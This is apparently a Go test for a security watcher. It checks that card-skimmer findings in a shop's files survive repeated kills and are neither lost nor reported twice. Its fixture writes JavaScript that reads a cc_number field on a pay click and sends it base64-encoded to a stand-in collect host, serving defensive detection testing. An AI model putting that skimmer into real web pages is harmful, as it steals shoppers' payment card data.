//go:build unix

package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"
)

// toldEvent is what a program reads of one line.
type toldEvent struct {
	Number  int64
	Event   string
	Why     string
	Again   bool
	Finding struct {
		Rule, Place, Incident string
	}
}

// TestNothingIsLostOrToldTwiceOverAKill kills the watch again and again while files are planted, at moments that chance
// chooses. In the end each was told, and none twice but what the watch was killed in the very act of telling, which says so.
func TestNothingIsLostOrToldTwiceOverAKill(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	shop := filepath.Join(dir, "shop")
	if err := os.Mkdir(shop, 0o755); err != nil {
		t.Fatal(err)
	}
	config := filepath.Join(dir, "tillwatch.yaml")
	text := "shop: shop.example\nstate: state\nformat: json\ntargets:\n  - files: shop\n    interval: 1s\n"
	if err := os.WriteFile(config, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	out, err := os.OpenFile(filepath.Join(dir, "out.jsonl"), os.O_CREATE|os.O_APPEND|os.O_RDWR, 0o600)
	if err != nil {
		t.Fatal(err)
	}
	defer out.Close()
	self := program(t)
	planted := 0
	plant := func() {
		body := fmt.Sprintf("document.querySelector('#pay').addEventListener('click', function () { var n = document.querySelector('input[name=cc_number]').value;\n"+
			"new Image().src = 'https://collect%d.example/p.gif?d=' + btoa(n); });", planted)
		if err := os.WriteFile(filepath.Join(shop, fmt.Sprintf("f%d.js", planted)), []byte(body), 0o600); err != nil {
			t.Fatal(err)
		}
		planted++
	}
	start := func() *exec.Cmd {
		cmd := exec.CommandContext(t.Context(), self, "watch", "-c", config, "--quiet")
		cmd.Stdout = out
		cmd.Stderr = new(bytes.Buffer)
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		return cmd
	}
	random := rand.New(rand.NewPCG(uint64(os.Getpid()), 1))
	size := func() int64 {
		info, err := out.Stat()
		if err != nil {
			t.Fatal(err)
		}
		return info.Size()
	}
	for range 8 {
		for range 3 {
			plant()
		}
		before := size()
		cmd := start()
		// From the start to a little behind the first thing that is told: the whole life of a finding.
		for deadline := time.Now().Add(time.Duration(random.IntN(3000)) * time.Millisecond); size() == before && time.Now().Before(deadline); {
			time.Sleep(time.Millisecond)
		}
		time.Sleep(time.Duration(random.IntN(20_000)) * time.Microsecond)
		_ = cmd.Process.Kill()
		_ = cmd.Wait()
	}
	cmd := start()
	plant() // so that the last one, too, has something to tell before it is stopped
	var told map[string]int
	for deadline := time.Now().Add(2 * time.Minute); time.Now().Before(deadline) && len(told) < planted; time.Sleep(20 * time.Millisecond) {
		told, _ = readTold(t, out.Name())
	}
	if err := cmd.Process.Signal(syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	if err := cmd.Wait(); err != nil {
		t.Errorf("ended with %v: %s", err, cmd.Stderr)
	}
	told, incidents := readTold(t, out.Name())
	if len(told) != planted {
		t.Errorf("%d of %d were told", len(told), planted)
	}
	for place, times := range told {
		if times != 1 {
			t.Errorf("%s was told %d times", place, times)
		}
	}
	if len(incidents) != 1 {
		t.Errorf("they are of the incidents %v", incidents)
	}
}

// readTold gives how often each finding was told, what was told again under the same number not counted, and the
// incidents that they named.
func readTold(t *testing.T, name string) (map[string]int, map[string]bool) {
	t.Helper()
	text, err := os.ReadFile(name)
	if err != nil {
		t.Fatal(err)
	}
	told, incidents, numbers := map[string]int{}, map[string]bool{}, map[int64]bool{}
	lines := strings.Split(string(text), "\n")
	last := int64(0)
	for n, line := range lines {
		if line == "" || n == len(lines)-1 {
			continue
		}
		var e toldEvent
		if err := json.Unmarshal([]byte(line), &e); err != nil {
			if n+1 < len(lines) && strings.Contains(lines[n+1], `"again":true`) {
				continue // half of a line, by a program that was killed; the whole one follows
			}
			t.Errorf("line %d is no JSON: %v", n+1, err)
			continue
		}
		if e.Number < last || e.Number == last && !e.Again {
			t.Errorf("number %d after %d", e.Number, last)
		}
		last = e.Number
		if e.Event != "finding" || e.Finding.Rule != "files/skimmer" || numbers[e.Number] && e.Again {
			continue
		}
		numbers[e.Number] = true
		incidents[e.Finding.Incident] = true
		told[e.Finding.Place]++
		if e.Why != "new" {
			t.Errorf("%s is told as %s", e.Finding.Place, e.Why)
		}
	}
	return told, incidents
}
